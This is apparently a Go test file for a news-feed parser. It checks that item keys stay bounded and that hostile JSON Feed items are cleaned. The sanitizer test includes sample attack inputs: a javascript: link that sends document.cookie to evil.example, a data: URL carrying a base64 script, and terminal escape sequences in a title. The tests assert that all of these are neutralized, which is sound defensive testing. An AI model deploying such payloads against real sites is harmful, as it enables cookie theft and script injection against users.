package feeds

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// A key a store cannot index (too long, or with a NUL) becomes its kind
// and a hash; other keys are as they were.
func TestKeysAreBounded(t *testing.T) {
	long := strings.Repeat("x", 3000)
	for _, c := range []struct {
		name, guid, link string
		want             string // the first key, or its prefix when hashed
		hashed           bool
	}{
		{"a bare GUID", "12345", "", "guid:f:12345", false},
		{"a URL GUID", "https://e.example/a?utm_source=x", "", "url:https://e.example/a", false},
		{"a 3 KB GUID", long, "", "guid:sha256:", true},
		{"a 3 KB link", "", "https://e.example/" + long, "url:sha256:", true},
		{"a GUID with a NUL", "x\x00y", "", "guid:sha256:", true},
	} {
		k := Keys("f", c.guid, c.link, "title", time.Time{})[0]
		if c.hashed {
			if !strings.HasPrefix(k, c.want) || len(k) != len(c.want)+64 {
				t.Errorf("%s: key %q", c.name, k)
			}
			if again := Keys("f", c.guid, c.link, "title", time.Time{})[0]; again != k {
				t.Errorf("%s: the key changed: %q then %q", c.name, k, again)
			}
		} else if k != c.want {
			t.Errorf("%s: key %q, want %q", c.name, k, c.want)
		}
	}
}

// What a hostile feed puts in an item's fields: control characters go, a
// link is one a reader can follow or none, a date ahead is now (and the
// item keeps its identity from poll to poll), bylines and texts are
// bounded.
func TestToItemsCleansHostileFields(t *testing.T) {
	type jsonItem struct {
		ID            string `json:"id,omitempty"`
		URL           string `json:"url,omitempty"`
		Title         string `json:"title"`
		ContentHTML   string `json:"content_html,omitempty"`
		DatePublished string `json:"date_published,omitempty"`
		Authors       []map[string]string
	}
	now := time.Date(2026, 12, 3, 12, 0, 0, 0, time.UTC)
	ahead := now.Add(10 * time.Hour).Format(time.RFC3339)
	var authors []map[string]string
	for range 20 {
		authors = append(authors, map[string]string{"name": strings.Repeat("ك", 300)})
	}
	items := []jsonItem{
		{ID: "js", URL: "javascript:fetch('//evil.example/'+document.cookie)", Title: "\x1b]0;pwned\a\x1b[2J\x1b[31mعنوان\u0085"},
		{ID: "data", URL: "data:text/html;base64,PHNjcmlwdD4=", Title: "b"},
		{ID: "rel", URL: "/news/1", Title: "c"},
		{ID: "abs", URL: "https://outlet.example/أخبار/1", Title: "d", ContentHTML: strings.Repeat("<p>نص</p>", 100000)},
		{URL: "", Title: "no id, no link", ContentHTML: "نص", DatePublished: ahead, Authors: authors},
	}
	body, _ := json.Marshal(map[string]any{"version": "https://jsonfeed.org/version/1.1", "title": "t", "home_page_url": "https://outlet.example/", "items": items})
	f, err := Parse(body, "application/feed+json", "ar")
	if err != nil {
		t.Fatal(err)
	}
	got := ToItems("f", "ar", f, now)
	if len(got) != len(items) {
		t.Fatalf("%d items, want %d", len(got), len(items))
	}
	for i, want := range []string{"", "", "https://outlet.example/news/1", "https://outlet.example/أخبار/1", ""} {
		if got[i].URL != want {
			t.Errorf("item %d: link %q, want %q", i, got[i].URL, want)
		}
	}
	if got[0].Title != "]0;pwned[2J[31mعنوان" {
		t.Errorf("controls left in a title: %q", got[0].Title)
	}
	if n := len(got[3].Content); n > maxContent {
		t.Errorf("content of %d bytes", n)
	}
	last := got[4]
	if !last.Published.Equal(now) || len(last.Authors) != maxAuthors || len(last.Authors[0]) > maxAuthor {
		t.Errorf("a date ahead and twenty long bylines: published %v, %d authors of %d bytes", last.Published, len(last.Authors), len(last.Authors[0]))
	}
	if again := ToItems("f", "ar", f, now.Add(time.Hour)); again[4].ID != last.ID {
		t.Errorf("the item dated ahead changed its identity an hour later: %s then %s", last.ID, again[4].ID)
	}
}
